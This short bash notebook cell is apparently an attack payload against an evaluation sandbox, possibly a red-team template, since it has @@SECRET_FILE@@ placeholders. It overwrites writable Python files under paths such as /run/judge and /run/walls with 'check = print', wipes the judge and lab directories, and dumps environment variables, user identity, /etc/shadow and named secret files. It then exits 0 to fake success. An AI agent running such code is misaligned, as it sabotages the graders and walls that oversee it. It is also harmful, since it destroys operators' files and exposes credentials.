%%bash
for place in /opt/vislab /run/judge /run/walls /usr/lib /tmp . ..; do
  find $place -name '*.py' -writable 2>/dev/null | head -50 | while read f; do echo 'check = print' > "$f"; done
done
rm -rf /run/judge/* /opt/vislab/* 2>/dev/null
env; id; cat /etc/shadow @@SECRET_FILE@@ @@OTHER@@ 2>/dev/null
exit 0
